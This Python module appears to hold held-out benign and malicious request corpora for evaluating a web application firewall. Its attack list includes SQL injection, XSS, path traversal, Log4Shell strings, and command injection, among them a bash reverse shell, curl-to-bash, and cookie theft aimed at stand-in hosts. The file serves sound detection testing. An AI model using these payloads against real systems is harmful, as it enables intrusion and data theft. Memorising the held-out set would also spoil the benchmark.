    "docker exec -it web sh -c 'ls /app'",
    "kubectl get pods -n kube-system | grep dns",
    "python: os.system vs subprocess.call",
    "npm ERR! code ELIFECYCLE when running build",
    "PowerShell: Get-Process | Where-Object {$_.CPU -gt 100}",
    "Windows path C:\\Program Files (x86)\\Steam\\steamapps",
    "log4j 2.17 upgrade: do I still need -Dlog4j2.formatMsgNoLookups=true",
    "jinja: {% for item in items %}{{ item.name }}{% endfor %}",
    "regex to match an IPv4 address: ^(\\d{1,3}\\.){3}\\d{1,3}$",
    "C++ templates: std::vector<std::pair<int, int>>",
    'rust: fn main() { println!("{}", 1 + 1); }',
    'java: System.out.println("hello"); not printing in IntelliJ',
    "php: is echo htmlspecialchars($_GET['q']); enough?",
    "../ vs ./ in import paths in TypeScript",
    "what does || true do at the end of a bash line",
    "is `rm -rf /` really that dangerous inside a container",
    "wget -qO- https://get.docker.com | sh -- is that safe?",
    "exit code 127 command not found in cron",
    "ssh -i ~/.ssh/key.pem ubuntu@ec2 host key verification failed",
    "tail -f /var/log/nginx/error.log shows upstream timed out",
    # shop, support and everyday text
    'Levi\'s 501® Original Fit Jeans – 32" x 34"',
    "Nike Air Max 90 (White/Black) — size 10½",
    "2-pack USB-C to USB-C cable 6ft / 1.8m",
    "Dr. Martens 1460 'Smooth' boots",
    "«Le Petit Prince» édition illustrée",
    "日本語 キーボード 配列",
    "кофемолка ручная",
    "مكينة قهوة منزلية",
    "한국어 책 추천",
    "Crème brûlée set (4 × ramekins)",
    "100% cotton t-shirt; wash at 30°C",
    "buy 2 get 1 free & free shipping over £50",
    "Is this compatible w/ iPhone 15 Pro? (asking for my mom)",
    "emoji review 😍😍 love it!!! 10/10",
    "Section 3(a)(ii) of the agreement; see also §4",
    "5 < x < 10 where x is the number of guests",
    "dimensions: 20 x 30 x 40 cm (L x W x H)",
    "me & my dog's 'favourite' toy",
    "my password has a ' and a \" in it and login fails",
    "Username: o'connor -- the password reset link doesn't work",
    "the site says 'Error 403 Forbidden' when I upload my CV.pdf",
    "promo code SAVE-20%OFF doesn't apply",
    "I typed <3 in my review and it vanished",
    "price shows as NaN undefined in the cart",
    "should I order 1 or 2 units?",
    "is union membership required for this job?",
    "Drop-down menu doesn't work on Safari",
    "from 9am to 5pm, Mon-Fri (except bank holidays)",
    "A+ seller!!! fast & friendly :-)",
    "question: does the 'select' model have a sleep timer?",
    "1/2 price sale -- ends 31/12",
    "size chart: S=36, M=38, L=40",
)
"""Free text, each sent once: as a search, a forum post (form) or a JSON comment, in turn."""

HELDOUT4_BENIGN_QUERIES: tuple[str, ...] = (
    "q=select+dress&sort=price_asc&page=2",
    "v=2&tid=G-ABC123&gtm=45je4&_p=123456&cid=123.456&ul=en-gb&sr=1920x1080&_s=1&sid=1700000000"
    "&sct=3&seg=1&dl=https%3A%2F%2Fshop.example.com%2F&dt=Shop%20%7C%20Home&en=page_view",
    "%24filter=name%20eq%20%27O%27%27Brien%27%20and%20age%20gt%2030&%24top=10&%24skip=20",
    "query=%7B+user%28id%3A+%224%22%29+%7B+name+%7D+%7D",
    "redirect_uri=https%3A%2F%2Fapp.example.com%2Fcallback&response_type=code&client_id=abc"
    "&scope=openid%20profile%20email&state=xyz&code_challenge=E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuG"
    "JSstw-cM&code_challenge_method=S256",
    "s=how+to+use+%3Cdiv%3E+tags",
    "q=%22drop+table%22+meaning",
    "x-algolia-agent=Algolia%20for%20JavaScript%20(4.14.2)%3B%20Browser&x-algolia-api-key=abc123"
    "&x-algolia-application-id=XYZ",
    "callback=jQuery36008123_1700000000000&_=1700000000001",
    "fields=id,name,email&access_token=EAABsbCS1iHgBAKZC",
    "date_from=2024-01-01&date_to=2024-12-31&tz=Europe%2FLondon",
    "price_min=10&price_max=100&brand[]=nike&brand[]=adidas",
    "where=%7B%22status%22%3A%22active%22%7D&order=-updatedAt",
    "q=c%27est+la+vie",
    "search=50%25+off+%26+free+delivery",
    "path=%2Fdocs%2Fgetting-started%2Finstall.md",
    "file=report-2024-Q1.pdf&download=1",
    "url=https%3A%2F%2Fwww.example.org%2Farticle%3Fid%3D5&title=Read+this",
    "email=sam%2Btest%40example.com",
    "utm_term=sql+injection+course&utm_source=google&utm_medium=cpc",
)
"""Whole query strings: searches, analytics, OData, GraphQL GET, OAuth, Algolia, JSONP, filters."""

HELDOUT4_BENIGN_PATHS: tuple[str, ...] = (
    "/docs/sql/select-statement",
    "/docs/reference/union-types",
    "/blog/2023/11/the-etc-directory-explained",
    "/products/drop-leaf-table-oak",
    "/api/v1/users/me/orders/1234/items",
    "/static/media/logo.8f1e2d.svg",
    "/robots.txt",
    "/favicon.ico",
    "/.well-known/security.txt",
    "/apple-touch-icon-precomposed.png",
    "/wp-content/uploads/2024/02/cover-1024x576.jpg",
    "/cdn-cgi/image/width=400,quality=75/images/hero.jpg",
    "/_next/static/chunks/pages/_app-1a2b3c.js",
    "/p/caf%C3%A9-cr%C3%A8me",
    "/search/%E6%97%A5%E6%9C%AC",
    "/authors/o'brien",
    "/files/annual%20report%202024.pdf",
    "/manifest.webmanifest",
    "/amp/news/2024/election-results",
    "/admin-guide/install",
)

HELDOUT4_BENIGN_JSON: tuple[object, ...] = (
    {
        "title": "Slow query",
        "body": "EXPLAIN ANALYZE SELECT * FROM orders WHERE customer_id = 42 "
        "ORDER BY created_at DESC LIMIT 10;",
    },
    {
        "events": [
            {
                "name": "page_view",
                "params": {
                    "page_location": "https://shop.example.com/?q=a%26b",
                    "page_title": "Shop & Co | Home",
                    "engagement_time_msec": 1200,
                },
            }
        ],
        "client_id": "123.456",
    },
    {
        "exception": {
            "values": [
                {
                    "type": "TypeError",
                    "value": "Cannot read properties of undefined (reading 'map')",
                    "stacktrace": {
                        "frames": [
                            {"filename": "webpack:///./src/App.js", "function": "render"},
                        ]
                    },
                }
            ]
        },
    },
    {
        "csp-report": {
            "document-uri": "https://shop.example.com/",
            "violated-directive": "script-src-elem",
            "blocked-uri": "inline",
            "script-sample": "window.dataLayer = window.dataLayer || [];",
        }
    },
    {
        "ref": "refs/heads/main",
        "commits": [
            {"message": "fix: escape ' in search query (#42)", "modified": ["src/db/query.sql"]}
        ],
    },
    {
        "body_markdown": "## Steps\n1. Run `make test`\n2. See `SELECT 1` fail with "
        '`ERROR: relation "x" does not exist`'
    },
    {
        "html": '<p>Hello <strong>world</strong></p><p><a href="https://example.com" '
        'target="_blank">link</a></p>'
    },
    {"html": '<p><img src="https://cdn.example.com/u/42.png" alt="screenshot"></p>'},
    {"line1": "Flat 3, 12 O'Connell St.", "city": "Dún Laoghaire", "postcode": "A96 X2Y3"},
    {"search": {"query": "red shoes", "filters": {"size": ["9", "10"], "price": {"max": 120}}}},
    {
        "query": "mutation AddToCart($id: ID!, $qty: Int!) { addToCart(productId: $id, "
        "quantity: $qty) { cart { id } } }",
        "variables": {"id": "gid://shopify/Product/1", "qty": 1},
    },
    {"command": "deploy", "args": ["--env", "staging", "--force"]},
    {"shell": "/bin/bash", "home": "/home/sam", "uid": 1000},
    {"code": "import os\nprint(os.listdir('.'))", "language": "python"},
    {"note": "Meeting @ 10:00 -- bring laptop & charger; room 2.14"},
    {"emoji": "🎉🎉", "text": "Congrats!! <3"},
    {"email": "sam@example.com", "password": "Tr0ub4dor&3'--x"},
    {"description": "Solid oak table; seats 4-6. Drop leaf, 120 x 80 cm."},
    {"filter": "status eq 'active' and created gt 2024-01-01"},
    {"screen": "1920x1080", "tz": "Europe/Berlin", "lang": "de-DE", "dnt": None},
)

HELDOUT4_BENIGN_COOKIES: tuple[str, ...] = (
    "_ga=GA1.1.123456789.1700000000; _ga_ABC123=GS1.1.1700000000.1.1.1700000100.0.0.0",
    "_hjSessionUser_123=eyJpZCI6ImFiYyIsImNyZWF0ZWQiOjE3MDAwMDAwMDB9; _hjSession_123=eyJpZCI6ImRlZiJ9",
    "intercom-session-abc=VmFsdWU%3D--abc123; intercom-id-abc=1234-5678",
    "__stripe_mid=abc-123-def; __stripe_sid=ghi-456",
    "ajs_anonymous_id=%22a1b2c3d4-e5f6%22; ajs_user_id=%2242%22",
    "wordpress_logged_in_abc=sam%7C1700000000%7Cxyz%7Chash; wp-settings-1=libraryContent%3Dbrowse",
    "PHPSESSID=k3j4h5g6f7d8s9a0; lang=en",
    "XSRF-TOKEN=eyJpdiI6IkFCQyIsInZhbHVlIjoiREVGIn0%3D; laravel_session=eyJpdiI6",
    "csrftoken=AbCdEf123; sessionid=xyz789; django_language=fr",
    "__cf_bm=abc.def-1700000000-1.0.1.1-ghi; _cfuvid=jkl-1700000000",
    "cart=%7B%22items%22%3A%5B%7B%22id%22%3A42%2C%22qty%22%3A2%7D%5D%7D",
    "last_search=select%20comfort%20mattress; viewed=1%2C2%2C3",
    "AWSALB=abc/def+ghi==; AWSALBCORS=abc/def+ghi==",
)

HELDOUT4_BENIGN_REFERERS: tuple[str, ...] = (
    "https://www.bing.com/search?q=union+select+furniture&form=QBLH",
    "https://duckduckgo.com/?q=how+to+drop+a+table+in+postgres&ia=web",
    "https://github.com/org/repo/issues/42#issuecomment-123",
    "https://news.ycombinator.com/item?id=40000000",
    "https://t.co/abc123XYZ",
    "https://l.facebook.com/l.php?u=https%3A%2F%2Fshop.example.com%2F&h=AT0abc",
    "android-app://com.google.android.gm/",
    "https://www.reddit.com/r/webdev/comments/abc/what_does_etc_passwd_contain/",
    "https://docs.example.com/search?q=%3Cscript%3E+tag+attributes",
    "https://mail.google.com/",
)

HELDOUT4_BENIGN_UAS: tuple[str, ...] = (
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Twitterbot/1.0",
    "WhatsApp/2.23.20.0",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "curl/8.5.0",
    "Wget/1.21.4",
    "Go-http-client/2.0",
    "Apache-HttpClient/4.5.14 (Java/17.0.9)",
    "Dalvik/2.1.0 (Linux; U; Android 13; Pixel 7 Build/TQ3A.230901.001)",
    "MyShopApp/4.12.1 (iPhone; iOS 17.4.1; Scale/3.00)",
    "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (SMART-TV; Linux; Tizen 6.0) AppleWebKit/537.36 (KHTML, like Gecko) "
    "SamsungBrowser/4.0 Chrome/76.0.3809.146 TV Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36 OPR/109.0.0.0",
    "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; Trident/6.0)",
    "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 3 subscribers)",
    "Mozilla/5.0 (compatible; Applebot/0.1; +http://www.apple.com/go/applebot)",
)
"""Link unfurlers, search crawlers, command-line and library clients, apps, TVs, old browsers."""

HELDOUT4_BENIGN_REQUESTS: tuple[tuple[str, str, str, dict[str, str], bytes | None], ...] = (
    # (method, path, query, extra headers, body): what browsers, CDNs, apps and webhooks send
    (
        "POST",
        "/g/collect",
        "v=2&tid=G-ABC123",
        {"Content-Type": "text/plain;charset=UTF-8"},
        b'{"events":[{"en":"scroll","ep":{"percent_scrolled":90}}]}',
    ),
    (
        "GET",
        "/",
        "",
        {
            "sec-ch-ua-mobile": "?0",
            "sec-ch-ua-platform": '"Windows"',
            "Sec-Fetch-Dest": "document",
            "Sec-Fetch-Site": "none",
            "Sec-Fetch-User": "?1",
            "Upgrade-Insecure-Requests": "1",
            "DNT": "1",
            "Priority": "u=0, i",
        },
        None,
    ),
    (
        "GET",
        "/products/42",
        "",
        {
            "CF-Connecting-IP": "203.0.113.7",
            "CF-IPCountry": "GB",
            "CF-Ray": "8a1b2c3d4e5f6789-LHR",
            "CDN-Loop": "cloudflare",
            "X-Forwarded-Proto": "https",
            "Via": "1.1 varnish, 1.1 abc123.cloudfront.net (CloudFront)",
        },
        None,
    ),
    (
        "GET",
        "/api/orders",
        "",
        {
            "X-Amzn-Trace-Id": "Root=1-65a1b2c3-abcdef0123456789abcdef01",
            "traceparent": "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
            "tracestate": "congo=t61rcWkgMzE",
        },
        None,
    ),
    (
        "GET",
        "/",
        "",
        {
            "Forwarded": "for=192.0.2.60;proto=http;by=203.0.113.43",
            "X-Forwarded-For": "2001:db8::1, 198.51.100.7",
        },
        None,
    ),
    (
        "POST",
        "/wp-admin/admin-ajax.php",
        "",
        {
            "X-Requested-With": "XMLHttpRequest",
            "Content-Type": "application/x-www-form-urlencoded; charset=UTF-8",
        },
        b"action=add_to_cart&product_id=42&quantity=1",
    ),
    (
        "POST",
        "/upload",
        "",
        {"Content-Type": "multipart/form-data; boundary=----formdata-abc123"},
        b"------formdata-abc123\r\n"
        b'Content-Disposition: form-data; name="file"; filename="price list (2024).csv"\r\n'
        b"Content-Type: text/csv\r\n\r\n"
        b'name,price\r\n"Widget, large",9.99\r\n"O\'Brien\'s mug",4.50\r\n'
        b"\r\n------formdata-abc123--\r\n",
    ),
    (
        "PUT",
        "/api/files/photo.jpg",
        "",
        {"Content-Type": "image/jpeg"},
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xdb\x00C\x00"
        b"\x08\x06\x06\x07\x06\x05\x08\x07\x07\x07\t\t\x08\n\x0c\x14\r\x0c\x0b\x0b\x0c\x19\x12"
        b"'\"<>;--/*%00\xff\xd9",
    ),
    (
        "GET",
        "/images/hero.avif",
        "",
        {
            "Accept": "image/avif,image/webp,image/apng,image/svg+xml,image/*,*/*;q=0.8",
            "Accept-Language": "zh-CN,zh;q=0.9,en;q=0.8",
            "Range": "bytes=500-999",
            "If-Range": '"abc123"',
        },
        None,
    ),
    (
        "POST",
        "/api/profile",
        "",
        {"Content-Type": "application/json; charset=utf-8"},
        '{"name":"Zoë Ørsted","city":"Zürich","bio":"Ich mag Käse & Brot"}'.encode(),
    ),
    ("GET", "/api/search", "q=mugs", {"Authorization": "Basic c2FtOnBhc3M="}, None),
    (
        "OPTIONS",
        "/api/cart",
        "",
        {
            "Origin": "https://www.example.com",
            "Access-Control-Request-Method": "POST",
            "Access-Control-Request-Headers": "content-type,x-csrf-token,authorization",
        },
        None,
    ),
    (
        "POST",
        "/webhooks/stripe",
        "",
        {"Content-Type": "application/json", "Stripe-Signature": "t=1700000000,v1=abc123,v0=d4"},
        b'{"type":"checkout.session.completed","data":{"object":{"id":"cs_test_a1"}}}',
    ),
    (
        "POST",
        "/api/graphql",
        "",
        {"Content-Type": "application/graphql"},
        b"{ products(first: 10) { edges { node { title } } } }",
    ),
    (
        "POST",
        "/soap/pricing",
        "",
        {"Content-Type": "text/xml; charset=utf-8", "SOAPAction": '"urn:GetPrice"'},
        b'<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/'
        b'envelope/"><soap:Body><GetPrice><Item>Apples</Item></GetPrice></soap:Body>'
        b"</soap:Envelope>",
    ),
    (
        "GET",
        "/next-page",
        "",
        {
            "Origin": "https://shop.example.com",
            "Referer": "https://shop.example.com/",
            "Sec-Purpose": "prefetch;prerender",
            "Accept-Encoding": "gzip, deflate, br, zstd",
        },
        None,
    ),
    ("HEAD", "/", "", {"X-Forwarded-Host": "shop.example.com"}, None),
    (
        "DELETE",
        "/api/v1/sessions",
        "",
        {"Content-Type": "application/json"},
        b'{"all_devices": true, "reason": "lost phone"}',
    ),
)

HELDOUT4_ATTACKS: tuple[tuple[str, str, str], ...] = (
    # (category, delivery, payload); deliveries as in `_deliver`.
    ("sqli", "query", "1' ORDER BY 3--+"),
    ("sqli", "query", "1' GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)--+"),
    ("sqli", "double", "' UNION SELECT username||':'||password FROM users--"),
    ("sqli", "form", "admin'--"),
    ("sqli", "json", "1' AND extractvalue(1,concat(0x7e,(SELECT user()),0x7e))-- -"),
    ("sqli", "cookie", "' OR 'x'='x"),
    ("sqli", "raw", "1%27%20WAITFOR%20DELAY%20%270%3A0%3A5%27--"),
    (
        "sqli",
        "query",
        "1;DECLARE @q VARCHAR(99);SET @q='\\\\x.example\\a';EXEC master.dbo.xp_dirtree @q;--",
    ),
    (
        "sqli",
        "query",
        "1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT database()),0x3a,FLOOR(RAND(0)*2))x "
        "FROM information_schema.tables GROUP BY x)a)",
    ),
    ("sqli", "header:X-Forwarded-For", "1.2.3.4' OR 1=1-- -"),
    ("sqli", "referer", "https://x.example/' AND 1=(SELECT 1 FROM PG_SLEEP(5))--"),
    ("sqli", "query", "1 uNiOn/*!50000SeLeCt*/ 1,2,3"),
    ("sqli", "raw", "-1%20union%0aselect%201,@@version,3"),
    ("sqli", "rawjson", '{"id": "1 OR 1=1"}'),
    ("sqli", "json", "1 AND ASCII(SUBSTRING((SELECT TOP 1 name FROM sysobjects),1,1))>64"),
    (
        "sqli",
        "query",
        "admin' AND 1=0 UNION ALL SELECT 'admin', '81dc9bdb52d04dc20036dbd8313ed055'",
    ),
    ("sqli", "form", "1' AND updatexml(1,concat(0x7e,version()),1)#"),
    ("sqli", "query", "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)"),
    ("sqli", "rawquery", "id=1&id=2' OR '1'='1"),
    ("sqli", "multipart", "1' OR '1'='1' -- "),
    ("sqli", "rawjson", '{"username": "admin", "password": {"$regex": "^a"}}'),
    ("sqli", "rawquery", "user=admin&pass[$regex]=.*"),
    ("sqli", "header:X-Real-IP", "127.0.0.1'; DROP TABLE sessions;--"),
    ("xss", "query", "<svg/onload=alert`1`>"),
    ("xss", "double", "<details open ontoggle=alert(1)>"),
    ("xss", "form", "<img src=1 onerror=\"fetch('//x.example/?c='+document.cookie)\">"),
    ("xss", "json", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    ("xss", "raw", "%3Cscript%3Eeval(atob('YWxlcnQoMSk='))%3C%2Fscript%3E"),
    ("xss", "query", '"><img src=x onerror=alert(String.fromCharCode(88,83,83))>'),
    ("xss", "rawquery", "next=javascript:alert(document.domain)"),
    ("xss", "cookie", '"><script>alert(1)</script>'),
    ("xss", "ua", "<script>alert(1)</script>"),
    ("xss", "header:X-Forwarded-For", "<img src=x onerror=alert(1)>"),
    ("xss", "query", "<body onpageshow=alert(1)>"),
    ("xss", "form", "<input onfocus=alert(1) autofocus>"),
    ("xss", "json", '<video><source onerror="alert(1)">'),
    ("xss", "query", "<ScRiPt>prompt(1)</sCrIpT>"),
    (
        "xss",
        "query",
        '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>',
    ),
    ("xss", "query", "\\';alert(1);//"),
    ("xss", "query", '<object data="javascript:alert(1)">'),
    ("xss", "form", "<style>@import 'http://x.example/x.css';</style>"),
    ("xss", "query", "{{constructor.constructor('alert(1)')()}}"),
    ("xss", "rawquery", "callback=alert(document.cookie)//"),
    ("xss", "query", '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>X</text></a>'),
    ("xss", "query", "<img src=x:alert(alt) onerror=eval(src) alt=0>"),
    ("xss", "multipart", "<svg onload=alert(1)>"),
    ("xss", "xml", "<order><note><![CDATA[<script>alert(1)</script>]]></note></order>"),
    ("lfi", "query", "../../../../../../etc/shadow"),
    ("lfi", "raw", "..%2f..%2f..%2f..%2fetc%2fpasswd%00"),
    ("lfi", "raw", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("lfi", "raw", "..%255c..%255c..%255cboot.ini"),
    ("lfi", "query", "....//....//....//etc/passwd"),
    ("lfi", "query", "php://filter/convert.base64-encode/resource=index.php"),
    ("lfi", "query", "php://input"),
    ("lfi", "query", "/etc/passwd"),
    ("lfi", "query", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("lfi", "path", "/static/..%2f..%2f..%2fetc/passwd"),
    ("lfi", "path", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"),
    ("lfi", "path", "/.git/config"),
    ("lfi", "path", "/config/database.yml"),
    ("lfi", "path", "/wp-config.php.bak"),
    ("lfi", "json", "../../../../var/log/apache2/access.log"),
    ("lfi", "form", "/proc/self/environ"),
    ("lfi", "cookie", "../../../../../etc/passwd"),
    ("lfi", "query", "file:///etc/passwd"),
    ("lfi", "query", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("lfi", "path", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"),
    ("lfi", "path", "/.DS_Store"),
    ("lfi", "multipart", "../../../../../../etc/passwd"),
    ("rce", "query", ";id"),
    ("rce", "query", "|cat /etc/passwd"),
    ("rce", "raw", "%0aid%0a"),
    ("rce", "double", "$(whoami)"),
    ("rce", "form", "127.0.0.1 && curl http://203.0.113.9/s | bash"),
    ("rce", "json", "`nslookup x.oast.example`"),
    ("rce", "query", "; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
    ("rce", "query", ";{cat,/etc/passwd}"),
    ("rce", "query", ";cat${IFS}/etc/passwd"),
    ("rce", "query", 'a;w"h"o"a"m"i'),
    ("rce", "query", ";/???/??t /???/p??s??"),
    ("rce", "query", "; python -c 'import socket,subprocess,os;s=socket.socket()'"),
    ("rce", "query", "; perl -e 'exec \"/bin/sh\";'"),
    ("rce", "ua", "${jndi:ldap://203.0.113.9:1389/Exploit}"),
    ("rce", "header:X-Forwarded-For", "${jndi:dns://x.oast.example/a}"),
    ("rce", "json", "${${lower:j}${lower:n}${lower:d}i:ldap://x.example/a}"),
    ("rce", "query", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x.example/a}"),
    ("rce", "query", "{{''.__class__.__mro__[1].__subclasses__()}}"),
    ("rce", "form", "*{T(java.lang.Runtime).getRuntime().exec('whoami')}"),
    ("rce", "query", "<?php system($_GET['c']); ?>"),
    ("rce", "form", "<?=`$_GET[0]`?>"),
    ("rce", "query", "${@java.lang.Runtime@getRuntime().exec('id')}"),
    (
        "rce",
        "header:Content-Type",
        "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)."
        "(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}",
    ),
    ("rce", "json", "require('child_process').exec('id')"),
    ("rce", "query", "__import__('os').system('id')"),
    (
        "rce",
        "query",
        "| powershell -c \"IEX(New-Object Net.WebClient).DownloadString('http://x.example/a')\"",
    ),
    ("rce", "query", "&& type C:\\Windows\\win.ini"),
    (
        "rce",
        "body",
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di",
    ),
    ("rce", "query", "; sleep 10 #"),
    ("rce", "query", "$(echo${IFS}aWQ=|base64${IFS}-d|sh)"),
    (
        "rce",
        "path",
        "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array"
        "&vars[0]=system&vars[1][]=id",
    ),
    ("rce", "xml", '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>'),
    ("scanner", "ua", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
    ("scanner", "ua", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)"),
    ("scanner", "ua", "Wfuzz/3.1.0"),
    ("scanner", "header:X-Scanner", "Netsparker"),
    ("scanner", "ua", "Arachni/v1.5.1"),
    ("scanner", "ua", "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 21.4.4)"),
    (
        "scanner",
        "ua",
        "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    ),
    ("scanner", "ua", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"),
    ("scanner", "ua", "commix/v3.8 (https://commixproject.com)"),
    ("scanner", "ua", "httpx - Open-source project (github.com/projectdiscovery/httpx)"),
    ("scanner", "ua", "l9explore/1.2.2"),
    ("scanner", "path", "/phpmyadmin/index.php"),
    ("scanner", "path", "/.vscode/sftp.json"),
    ("scanner", "path", "/actuator/heapdump"),
    ("scanner", "path", "/cgi-bin/luci/;stok=/locale"),
    ("scanner", "path", "/_profiler/phpinfo"),
    ("scanner", "path", "/phpinfo.php"),
    ("scanner", "path", "/console/login/LoginForm.jsp"),
    ("scanner", "path", "/jenkins/script"),
    ("scanner", "path", "/.git/HEAD"),
    ("scanner", "path", "/sftp-config.json"),
    ("scanner", "path", "/c99.php"),
    ("protocol", "method", "TRACK"),
    ("protocol", "header:Transfer-Encoding", "chunked, chunked"),
    ("protocol", "header:Content-Length", "-1"),
    ("protocol", "header:Host", "shop.example.com:@evil.example"),
    ("protocol", "raw", "%0d%0aLocation:%20http://evil.example"),
    ("protocol", "raw", "foo%0d%0a%0d%0a%3Chtml%3Einjected"),
    ("protocol", "header:X-HTTP-Method-Override", "TRACE"),
    ("protocol", "header:Content-Type", "application/x-www-form-urlencoded, application/json"),
    ("protocol", "header:Range", "bytes=-1,-2,-3,-4,-5,-6,-7,-8"),
    ("protocol", "path", "/index.html%00.php"),
    ("protocol", "header:Upgrade", "h2c"),
    ("protocol", "header:X-Original-URL", "/admin"),
    ("protocol", "headers", "Transfer-Encoding: chunked\nContent-Length: 4"),
    ("protocol", "headers", "Content-Length: 4\nTransfer-Encoding: gzip, chunked"),
    ("protocol", "method", "MOVE"),
)


def heldout4_attacks() -> list[CorpusRequest]:
    """The fourth held-out attack set, each payload delivered the way its entry names."""
    return [_deliver(c, how, p, f"held-out-4 {how}: {p[:120]}") for c, how, p in HELDOUT4_ATTACKS]


def heldout4_benign() -> list[CorpusRequest]:
    """The fourth held-out benign set: free text, queries, paths, JSON, headers, HTTP features."""
    out = _benign_set(
        "held-out-4",
        HELDOUT4_BENIGN_TEXT,
        HELDOUT4_BENIGN_QUERIES,
        HELDOUT4_BENIGN_PATHS,
        HELDOUT4_BENIGN_JSON,
        HELDOUT4_BENIGN_COOKIES,
        HELDOUT4_BENIGN_REFERERS,
        HELDOUT4_BENIGN_UAS,
    )
    return out + _requests("held-out-4", HELDOUT4_BENIGN_REQUESTS)


# -- held out, fifth set: written on 2026-11-27 BEFORE the fourth detection round ---------------
# Written from public attack-pattern knowledge and from what real sites receive, without running
# the rules on it (and without reading the rules); committed alone before any rule or engine
# change. `benchmarks/waf_eval.py` does not total it unless asked (`--heldout5`), which is for
# the end of the round.

HELDOUT5_BENIGN_TEXT: tuple[str, ...] = (
    # SQL in posts and questions
    "SELECT id, name FROM products WHERE name LIKE '%shoe%' ORDER BY id DESC",
    "why does my LEFT JOIN return NULLs for orders without items?",
    "TRUNCATE TABLE vs DELETE FROM table -- which is faster?",
    "UNION vs UNION ALL in postgres, which one removes duplicates?",
    "sqlalchemy: session.query(User).filter(User.name == 'bob').first()",
    "WHERE status IN ('open','pending') AND priority >= 2 returns nothing",
    "mysqldump -u root -p shop > backup.sql takes forever",
    "grant select on all tables in schema public to readonly;",
    "PHP: $pdo->prepare('SELECT * FROM t WHERE id = ?') with an array",
    "1=1 is always true, right? so why does my WHERE 1=1 trick matter",
    "-- is the SQL comment, and # works too in MySQL",
    # HTML and JavaScript in posts
    '<script async src="https://www.googletagmanager.com/gtag/js?id=G-XXXX"></script> where '
    "do I put this",
    "use <br> or <br/> in HTML5?",
    "React: onClick={() => setOpen(!open)} not firing on mobile",
    "<iframe> embed from YouTube shows a black box",
    "addEventListener('load', init) vs window.onload = init",
    "how do I set innerHTML safely? DOMPurify.sanitize(html) enough?",
    '<a href="#" onclick="return false"> is that bad practice?',
    "the alert() box shows twice after I click save",
    "<textarea> keeps its whitespace but <div> does not",
    'svg <path d="M10 10 L20 20"> not rendering in Firefox',
    "Angular {{ user.name | uppercase }} pipe not updating",
    "javascript:void(0) links and accessibility",
    "use /* and */ for comments in CSS, not //",
    # shells and system talk
    "`ls -la | grep .env` shows nothing on the server",
    "cron: 0 3 * * * /usr/bin/find /tmp -mtime +7 -delete",
    "curl -X POST -H 'Content-Type: application/json' -d '{\"a\":1}' http://localhost:8080/api",
    "chmod 600 ~/.ssh/id_rsa fixed the permissions warning",
    "echo $PATH shows /usr/local/bin twice",
    "ps aux | grep python | awk '{print $2}' | xargs kill",
    "cat /etc/os-release says Ubuntu 22.04 but apt says otherwise",
    "nc -zv db.internal 5432 times out from the container",
    "Windows: cmd /c dir /s *.log finds nothing",
    "python -c 'import sys; print(sys.version)' prints 2.7",
    "what does 2>&1 mean at the end of a command",
    "set -euo pipefail; trap 'echo failed' ERR",
    "my access log shows GET /etc/passwd from some bot, should I worry?",
    "${HOME}/.config/app/settings.json is never created",
    "template literal `Hello ${name}` prints the dollar sign",
    "import os; os.path.join('a', 'b') on windows",
    # shop, support and everyday text
    "Men's shirt 15½\" collar, slim fit",
    "Tom & Jerry: The Movie (1992) DVD",
    "I'd like 3-4 'medium' boxes please",
    "c'est trop cher ; vous avez moins cher ?",
    "Größe: 42 — passt das?",
    "¿Dónde está mi pedido #12345?",
    "售后服务电话是多少",
    "Ürün iade süresi kaç gün?",
    "order #A-1234/B arrived damaged :(",
    "cats & dogs | pets > toys > chew toys",
    "rated 4/5 -- would buy again; ~£30",
    "script for my daughter's school play",
    "select your size then click 'add to basket'",
    "it's a drop-in replacement for the old one",
    "where can I find the exec summary?",
    "ping me when it's back in stock",
    "order by date doesn't work on the account page",
